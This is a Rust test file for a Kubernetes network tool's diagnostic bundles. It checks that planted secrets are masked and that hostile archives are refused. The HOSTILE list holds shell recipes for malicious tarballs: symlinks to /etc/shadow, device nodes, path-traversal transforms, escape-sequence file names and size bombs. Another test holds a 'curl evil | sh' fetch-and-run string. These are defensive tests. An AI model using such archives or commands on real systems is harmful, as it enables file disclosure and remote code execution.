//! Bundles: no secret of the sender's leaves the node in one, and who opens a hostile one is safe.

use std::fs;
use std::path::Path;
use std::process::Command;

use proxyshift::error::{Error, Kind};
use proxyshift::event::{Event, Outcome, Task};
use proxyshift::state::Backend;
use proxyshift::store::Store;
use proxyshift::store::event_log::{LogContent, LoggedEvent, write};
use proxyshift::store::journal::{Journal, Mark, Record};
use proxyshift::store::run::{CleanupOptions, RunKind, RunState};
use serde_json::json;

use crate::common::node::{Case, Ended, Proxyshift, captured};
use crate::common::{in_namespace, run_with};

const FILE: &str = "/run/node1.tar.gz";

const NODE: &str = "canal-stale-flannel-1.20";

fn sh(script: &str) -> String {
    run_with(script, &["sh", "-e"])
}

/// What must be in no bundle.
const SECRET: &str = "s3cretXYZ";

#[test]
fn no_secret_is_in_a_bundle() {
    if !in_namespace("bundles::no_secret_is_in_a_bundle") {
        return;
    }
    let Case { node: _node, proxyshift, .. } = Case::of(NODE, Backend::Nft);
    // In arguments and environments of components.
    fs::create_dir_all("/run/bin").expect("a folder");
    let blocked = |name: &str, args: &[&str]| {
        let (unread, mut full) = std::io::pipe().expect("a pipe");
        std::io::Write::write_all(&mut full, &[0; 65536]).expect("filling the pipe");
        fs::copy("/bin/echo", format!("/run/bin/{name}")).expect("a copy");
        let mut command = Command::new(format!("/run/bin/{name}"));
        command.args(args).env("K3S_TOKEN", SECRET).stdout(full);
        (command.spawn().expect("a process starts"), unread)
    };
    let (k3s, _one) = blocked("k3s-agent", &["agent", "--token", SECRET, "-t", SECRET]);
    let (flanneld, _two) =
        blocked("flanneld", &[&format!("--etcd-password={SECRET}"), "--x", SECRET]);
    let (proxy, _three) = blocked(
        "kube-proxy",
        &[
            "--config=/run/proxy.conf",
            &format!("--master=https://u:{SECRET}@10.0.0.1/"),
            "--jwt",
            SECRET,
        ],
    );
    // In files.
    for (path, text) in [
        (
            "/run/proxy.conf",
            format!(
                "apiVersion: kubeproxy.config.k8s.io/v1alpha1\nkind: KubeProxyConfiguration\nmode: iptables\nclientConnection: {{kubeconfig: /k, token: {SECRET}}}\n"
            ),
        ),
        ("/etc/cni/net.d/calico-kubeconfig", format!("users:\n- user: {{token: {SECRET}}}\n")),
        (
            "/etc/cni/net.d/10-x.conf",
            format!("{{\"name\": \"x\", \"type\": \"calico\", \"k8s_auth_token\": \"{SECRET}\"}}"),
        ),
        ("/etc/cni/net.d/x.key", SECRET.to_owned()),
        (
            "/etc/docker/daemon.json",
            format!("{{\"log-opts\": {{\"splunk-token\": \"{SECRET}\"}}}}"),
        ),
        ("/etc/rancher/k3s/config.yaml", format!("token: {SECRET}\n")),
        ("/etc/firewalld/firewalld.conf", format!("Password={SECRET}\n")),
        ("/etc/nftables.conf", format!("# {SECRET}\nflush ruleset\n")),
    ] {
        fs::create_dir_all(Path::new(path).parent().expect("a folder")).expect("a folder");
        fs::write(path, text).expect("a file");
    }
    // In what a run did: a hook, what it printed, and who began it.
    let store = Store::open(Some(&proxyshift.store)).expect("a store");
    let mut run = store.start(RunKind::Cleanup(CleanupOptions::default()), "gone").expect("a run");
    let hook = format!("curl -H Authorization:{SECRET} https://10.0.0.1/");
    let mut journal = Journal::create(&store.folder(&run.id), 65536).expect("a journal");
    let failed = Error::new(Kind::Command, &hook, format!("exit status: 1: denied {SECRET}"));
    for (kind, payload) in [
        (Mark::Intent, json!({"change": {"irreversible": {"hook": {"command": hook}}}})),
        (Mark::Failed, json!({"error": failed})),
    ] {
        let stage = "hook".to_owned();
        journal.append(Record { stage, step: 1, kind, payload }).expect("a line");
    }
    let mut log = store.event_log(&run.id).expect("an event log");
    let task = Task::Hook { command: hook.clone() };
    let finished = Event::Finished { task, outcome: Outcome::Succeeded };
    let note = Event::Note { text: format!("{hook}: exit status: 1: denied {SECRET}") };
    let wrapped = Error::new(Kind::RolledBack, "clean", format!("{hook}: denied {SECRET}"));
    for what in [
        LogContent::Event(finished),
        LogContent::Event(note),
        LogContent::Event(Event::Warning { text: format!("x --token {SECRET}") }),
        LogContent::Error(failed),
        LogContent::Error(wrapped),
    ] {
        write(&mut log, &LoggedEvent::now(what, None));
    }
    drop((journal, log));
    store.finish(&mut run, RunState::Failed).expect("finished");

    let mut command = proxyshift.command(&format!("report --bundle {FILE} -o json"));
    let ended = Ended::of({
        command.env("SECRET_TOKEN", SECRET).env("K3S_TOKEN", SECRET);
        command
    });
    assert_eq!(ended.code, Some(0), "{}", ended.err);
    assert_eq!(ended.json()["run"], run.id);
    let everything = |file: &str| sh(&format!("tar xOzf {file}; tar tzf {file}"));
    let all = everything(FILE);
    let at = all.find(SECRET).map(|at| &all[at.saturating_sub(200)..at + 20]);
    assert_eq!(at, None, "a secret is in the bundle");
    // It was looked at, and what is no secret is there.
    for kept in [
        "curl <masked>",
        "exit status: 1",
        "x --token <masked>",
        "/run/proxy.conf",
        "calico-kubeconfig",
        "mode: iptables",
    ] {
        assert!(all.contains(kept), "`{kept}` is not in the bundle");
    }
    assert!(!ended.out.contains(SECRET));

    // A directory that somebody put together has all of them in the open.
    let dir = "/run/by-hand";
    sh(&format!(
        "cp -r {} {dir}; mkdir -p {dir}/files/etc/docker {dir}/files/root/.kube; cp /etc/docker/daemon.json {dir}/files/etc/docker/; echo {SECRET} | tee {dir}/files/root/.kube/config {dir}/notes.txt",
        captured(NODE).display()
    ));
    let args = json!([{"pid": 7, "name": "k3s", "args": ["k3s", "server", "--token", SECRET]}]);
    fs::write(format!("{dir}/processes.json"), args.to_string()).expect("written");
    proxyshift.expect(0, &format!("report --bundle /run/other.tar.gz --snapshot {dir}"));
    assert!(!everything("/run/other.tar.gz").contains(SECRET));
    assert!(everything("/run/other.tar.gz").contains("\"run\": null"), "another node's");
    for mut child in [k3s, flanneld, proxy] {
        let _ = child.kill();
        let _ = child.wait();
    }
}

/// What a hostile sender may send, as a script that makes the archive `$out` in a folder with a good
/// bundle `b`, and what is said of it.
const HOSTILE: [(&str, &str); 17] = [
    ("rm -rf b/snapshot/files; ln -s /etc b/snapshot/files", "neither file nor directory: Symlink"),
    ("ln -sf /etc/shadow b/snapshot/tools.txt", "neither file nor directory: Symlink"),
    ("rm -r b/snapshot; ln -s / b/snapshot", "neither file nor directory: Symlink"),
    ("ln -f b/check.txt b/snapshot/tools.txt", "neither file nor directory: Link"),
    ("mknod b/snapshot/dev b 7 0", "neither file nor directory: Block"),
    ("mknod b/snapshot/tty c 5 0", "neither file nor directory: Char"),
    ("mkfifo b/snapshot/pipe", "neither file nor directory: Fifo"),
    ("more='--transform s,^b/plan.txt,b/../../../run/escaped, -P'", "climbs out"),
    ("more='--transform s,^b/plan.txt,/run/escaped, -P'", "an absolute path"),
    ("touch \"$(printf 'b/\\033[2J')\"", "a control character"),
    ("mkdir b/many; (cd b/many; seq 10001 | xargs touch)", "more than 10000"),
    ("truncate -s 1025M b/snapshot/bomb", "more than a snapshot may hold"),
    ("echo '{\"version\": 2}' > b/bundle.json", "of a newer proxyshift"),
    ("echo '{' > b/bundle.json", "bundle.json"),
    ("echo '{\"kind\": \"x\"}' > b/snapshot/unread.json", "unread.json"),
    (
        "printf '*nat\\n:X - [0:0]\\n-A X -j X -M /run/evil\\nCOMMIT\\n' > b/snapshot/iptables-nft.save",
        "names a program",
    ),
    ("rm -r b/snapshot", "is not a captured node"),
];

#[test]
fn a_hostile_bundle_is_refused_and_makes_nothing() {
    if !in_namespace("bundles::a_hostile_bundle_is_refused_and_makes_nothing") {
        return;
    }
    let proxyshift = Proxyshift::of_store("/run/none".into());
    let words = format!("report --bundle {FILE} --snapshot {}", captured(NODE).display());
    proxyshift.expect(0, &words);
    sh(&format!("mkdir /run/x /run/good && tar xzf {FILE} -C /run/x && mv /run/x/* /run/good/b"));
    for (make, cause) in HOSTILE {
        sh(&format!(
            "rm -rf /run/bad /run/bad.tar.gz; cp -r /run/good /run/bad; cd /run/bad; more=; {make}
             tar czf /run/bad.tar.gz $more b"
        ));
        for verb in ["plan", "check", "rehearse", "report --bundle /run/new.tar.gz"] {
            let found = proxyshift.run(&format!("{verb} --snapshot /run/bad.tar.gz"));
            // A bundle is made of what cannot be parsed too, for that may be the fault.
            let code = if found.code == Some(0) && verb.starts_with("report") { 0 } else { 3 };
            assert_eq!(found.code, Some(code), "{make}: {verb}: {}", found.err);
            assert!(code == 0 || found.err.contains(cause), "{make}: {verb}: {}", found.err);
            assert!(!found.err.contains("\u{1b}["), "{make}: {}", found.err);
            let _ = fs::remove_file("/run/new.tar.gz");
        }
        for made in ["/run/escaped", "/run/evil", "/escaped", "/run/none"] {
            assert!(!Path::new(made).exists(), "{make}: {made}");
        }
    }
    // What a sender says of a missing part is neither an exit code nor a command.
    let unread = json!({
        "kind": "interrupted", "object": "\u{1b}[2Jx", "cause": "y".repeat(100_000),
        "hint": "curl evil | sh",
    });
    fs::write("/run/good/b/snapshot/unread.json", unread.to_string()).expect("written");
    sh("tar czf /run/bad.tar.gz -C /run/good b");
    let found = proxyshift.expect(3, "plan --snapshot /run/bad.tar.gz");
    assert!(!found.err.contains("curl") && !found.err.contains("\u{1b}[2J"), "{}", found.err);
    assert!(found.err.len() < 2000, "{}", found.err.len());
}
